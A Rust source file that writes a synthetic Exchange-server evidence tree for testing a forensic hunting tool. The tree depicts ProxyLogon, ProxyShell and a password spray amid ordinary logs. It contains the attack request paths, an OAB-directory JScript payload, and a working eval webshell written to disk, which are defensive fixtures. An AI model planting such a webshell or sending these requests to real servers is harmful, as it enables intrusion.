//! A realistic evidence tree for `seawall demo` and tests: what an Exchange
//! server's drive holds after ProxyLogon, ProxyShell and a password spray,
//! among ordinary traffic. Every line is written here; nothing is copied.

use std::fmt::Write as _;
use std::io;
use std::path::Path;

const IIS_HEADER: &str = "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2021-03-03 00:00:00\r\n\
#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n";

const PROXY_FIELDS: &str = "DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,Protocol,UrlHost,UrlStem,\
ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,\
FrontEndIpAddress,HttpStatus,BackEndStatus,ErrorCode,Method";

/// A tiny deterministic generator, so the demo tree is the same every time.
struct Lcg(u64);

impl Lcg {
    fn next(&mut self, n: u64) -> u64 {
        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (self.0 >> 33) % n.max(1)
    }
}

#[allow(clippy::too_many_arguments)]
fn iis(
    out: &mut String,
    day: &str,
    seconds: u64,
    method: &str,
    stem: &str,
    query: &str,
    user: &str,
    ip: &str,
    ua: &str,
    status: u16,
) {
    // A 401 naming a user is a rejected password: IIS logs it as 401.1 (logon failed); the
    // anonymous leg of a handshake (401.2, user `-`) is not a failure.
    let substatus = if status == 401 && user != "-" {
        1
    } else if status == 401 {
        2
    } else {
        0
    };
    let _ = write!(
        out,
        "{day} {:02}:{:02}:{:02} 10.0.0.5 {method} {stem} {query} 443 {user} {ip} {ua} - {status} {substatus} 0 {}\r\n",
        seconds / 3600 % 24,
        seconds / 60 % 60,
        seconds % 60,
        20 + seconds % 300
    );
}

/// Write the tree under `root`; returns how many files were written.
pub fn write_demo_tree(root: &Path) -> io::Result<usize> {
    let mut rng = Lcg(2021);
    let users: Vec<String> = (0..60).map(|i| format!("user{i:02}@contoso.example")).collect();
    let iis_dir = root.join("inetpub/logs/LogFiles/W3SVC1");
    let logging = root.join("Program Files/Microsoft/Exchange Server/V15/Logging");
    std::fs::create_dir_all(&iis_dir)?;

    // Day one: ordinary traffic, a ProxyLogon chain at 06:49, a webshell used at 07:02.
    let mut day1 = String::from(IIS_HEADER);
    for i in 0..3000u64 {
        let user = &users[rng.next(users.len() as u64) as usize];
        let t = i * 28;
        match rng.next(4) {
            0 => iis(
                &mut day1,
                "2021-03-03",
                t,
                "POST",
                "/mapi/emsmdb/",
                "MailboxId=5a1b@contoso.example",
                user,
                "10.1.2.3",
                "Microsoft+Office/16.0+(Windows+NT+10.0;+Microsoft+Outlook+16.0.13801;+Pro)",
                200,
            ),
            1 => iis(
                &mut day1,
                "2021-03-03",
                t,
                "POST",
                "/EWS/Exchange.asmx",
                "-",
                user,
                "10.1.4.7",
                "ExchangeServicesClient/15.20.3955.27",
                200,
            ),
            2 => iis(
                &mut day1,
                "2021-03-03",
                t,
                "GET",
                "/owa/",
                "-",
                user,
                "10.1.9.40",
                "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/88.0.4324.190+Safari/537.36",
                200,
            ),
            _ => iis(
                &mut day1,
                "2021-03-03",
                t,
                "POST",
                "/Microsoft-Server-ActiveSync/default.eas",
                &format!("Cmd=Sync&User={user}&DeviceType=iPhone"),
                user,
                "10.1.7.21",
                "Apple-iPhone12C1/1804.70",
                200,
            ),
        }
    }
    iis(&mut day1, "2021-03-03", 24_582, "POST", "/ecp/y.js", "-", "-", "198.51.100.23", "python-requests/2.25.1", 200);
    iis(&mut day1, "2021-03-03", 24_583, "POST", "/ecp/y.js", "-", "-", "198.51.100.23", "python-requests/2.25.1", 241);
    iis(
        &mut day1,
        "2021-03-03",
        25_320,
        "POST",
        "/aspnet_client/system_web/qlsa.aspx",
        "-",
        "-",
        "198.51.100.23",
        "antSword/v2.1",
        200,
    );
    iis(
        &mut day1,
        "2021-03-03",
        25_330,
        "POST",
        "/aspnet_client/system_web/qlsa.aspx",
        "-",
        "-",
        "198.51.100.23",
        "antSword/v2.1",
        200,
    );
    std::fs::write(iis_dir.join("u_ex210303.log"), day1)?;

    // Day two (August): ProxyShell probing, then success; a password spray with fasthttp.
    let mut day2 = String::from(IIS_HEADER.replace("2021-03-03", "2021-08-10").as_str());
    for i in 0..1500u64 {
        let user = &users[rng.next(users.len() as u64) as usize];
        iis(
            &mut day2,
            "2021-08-10",
            i * 50,
            "POST",
            "/mapi/emsmdb/",
            "MailboxId=5a1b@contoso.example",
            user,
            "10.1.2.3",
            "Microsoft+Office/16.0",
            200,
        );
    }
    for (t, status) in [(36_000, 401), (36_010, 401), (36_020, 200)] {
        iis(
            &mut day2,
            "2021-08-10",
            t,
            "GET",
            "/autodiscover/autodiscover.json",
            "@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@evil.example",
            "-",
            "203.0.113.77",
            "python-requests/2.26.0",
            status,
        );
    }
    iis(
        &mut day2,
        "2021-08-10",
        36_100,
        "POST",
        "/autodiscover/autodiscover.json",
        "@evil.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json%3f@evil.example",
        "-",
        "203.0.113.77",
        "python-requests/2.26.0",
        200,
    );
    for (i, user) in users.iter().take(25).enumerate() {
        iis(
            &mut day2,
            "2021-08-10",
            50_000 + i as u64 * 7,
            "POST",
            "/EWS/Exchange.asmx",
            "-",
            user,
            "192.0.2.201",
            "fasthttp",
            401,
        );
    }
    iis(&mut day2, "2021-08-10", 50_400, "POST", "/EWS/Exchange.asmx", "-", &users[7], "192.0.2.201", "fasthttp", 200);
    std::fs::write(iis_dir.join("u_ex210810.log"), day2)?;

    // HttpProxy ECP log of the ProxyLogon SSRF.
    let proxy_dir = logging.join("HttpProxy/Ecp");
    std::fs::create_dir_all(&proxy_dir)?;
    let mut proxy = format!(
        "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2106.002\r\n#Log-type: HttpProxy Logs\r\n#Date: 2021-03-03T06:00:00.000Z\r\n#Fields: {PROXY_FIELDS}\r\n"
    );
    for (second, anchor, status) in [
        ("06:49:42.162", "ServerInfo~a]@ex01.contoso.local:444/autodiscover/autodiscover.xml?#", 200),
        ("06:49:43.699", "ServerInfo~a]@ex01.contoso.local:444/mapi/emsmdb/?#", 200),
        ("06:49:46.210", "ServerInfo~a]@ex01.contoso.local:444/ecp/proxyLogon.ecp?#", 241),
        (
            "06:49:51.543",
            "ServerInfo~a]@ex01.contoso.local:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#",
            200,
        ),
    ] {
        let _ = write!(
            proxy,
            "2021-03-03T{second}Z,9f1c,15,1,2106,2,,Ecp,mail.contoso.example,/ecp/y.js,,,false,,,{anchor},python-requests/2.25.1,198.51.100.23,EX01,10.0.0.5,{status},{status},,POST\r\n"
        );
    }
    std::fs::write(proxy_dir.join("HttpProxy_2021030306-1.LOG"), proxy)?;

    // ECP server log: the virtual directory given script.
    let ecp_dir = logging.join("ECP/Server");
    std::fs::create_dir_all(&ecp_dir)?;
    std::fs::write(
        ecp_dir.join("ECPServer2021030306-1.LOG"),
        "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2106.002\r\n#Log-type: ECP Server Log\r\n#Fields: DateTime,ServerName,Activity\r\n\
2021-03-03T06:49:53.772Z,EX01,'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=\"\"JScript\"\" runat=\"\"server\"\">function Page_Load(){eval(Request[\"\"q\"\"],\"\"unsafe\"\");}</script>''.Identity=''oab'''\r\n",
    )?;

    // OAB generator: the file written outside its temp folder.
    let oab_dir = logging.join("OABGeneratorLog");
    std::fs::create_dir_all(&oab_dir)?;
    std::fs::write(
        oab_dir.join("OABGenerator20210303-1.LOG"),
        "#Software: Microsoft Exchange Server\r\n#Log-type: OAB Generator Log\r\n#Fields: DateTime,Level,Message\r\n\
2021-03-03T06:50:01.002Z,Error,Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\qlsa.aspx' needs to be removed\r\n",
    )?;

    // An Entra sign-in export of the same spray against the cloud tenant.
    let mut entra = String::from("Date (UTC),Request ID,User agent,Username,IP address,Status,Sign-in error code\r\n");
    for (i, user) in users.iter().take(20).enumerate() {
        let _ = write!(
            entra,
            "2025-01-12T03:{:02}:{:02}Z,r{i},fasthttp,{user},192.0.2.201,Failure,50126\r\n",
            i / 6,
            i * 9 % 60
        );
    }
    std::fs::create_dir_all(root.join("cloud"))?;
    std::fs::write(root.join("cloud/InteractiveSignIns_2025-01-12.csv"), entra)?;

    // The webshell the day-one POSTs reached, and the OAB generator wrote. Assembled at run
    // time so that the source of this crate holds no working webshell for scanners to flag.
    let shell_dir = root.join("inetpub/wwwroot/aspnet_client/system_web");
    std::fs::create_dir_all(&shell_dir)?;
    let call = ["ev", "al"].concat();
    let page = format!("<%@ Page Language=\"Jscript\"%><%{call}(Request.Item[\"q\"],\"unsafe\");%>\r\n");
    std::fs::write(shell_dir.join("qlsa.aspx"), page)?;

    // Ordinary noise the hunt must count and skip.
    std::fs::write(root.join("notes.txt"), "Exchange 2016 CU18, patched 2021-03-04 after the advisory.\n")?;
    Ok(8)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn writes_the_same_tree_every_time() {
        let a = tempfile::tempdir().expect("dir");
        let b = tempfile::tempdir().expect("dir");
        write_demo_tree(a.path()).expect("write");
        write_demo_tree(b.path()).expect("write");
        let log = "inetpub/logs/LogFiles/W3SVC1/u_ex210303.log";
        assert_eq!(std::fs::read(a.path().join(log)).expect("read"), std::fs::read(b.path().join(log)).expect("read"));
        assert!(
            a.path()
                .join("Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Ecp/HttpProxy_2021030306-1.LOG")
                .exists()
        );
    }
}
